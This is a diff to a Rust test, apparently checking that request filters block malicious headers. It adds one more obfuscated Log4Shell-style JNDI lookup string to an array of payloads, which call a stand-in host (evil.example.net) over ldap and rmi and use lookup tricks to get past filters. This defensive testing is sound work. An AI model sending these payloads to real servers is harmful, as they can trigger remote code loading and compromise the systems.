@@ -87,6 +87,8 @@ async fn limits_faults_and_filters_act_where_the_request_arrives() -> Result<()>
     let attacks: [&[&str]; 5] = [
         &["-H", "x-api-version: ${jndi:ldap://evil.example.net/a}", url],
         &["-H", "user-agent: ${${lower:j}${::-n}di:rmi://evil.example.net/a}", url],
+        // On every Linux host that is a colon.
+        &["-H", "referer: ${jndi${sys:path.separator}ldap://evil.example.net/a}", url],
         &[
             "-H",
             "content-type: application/json",
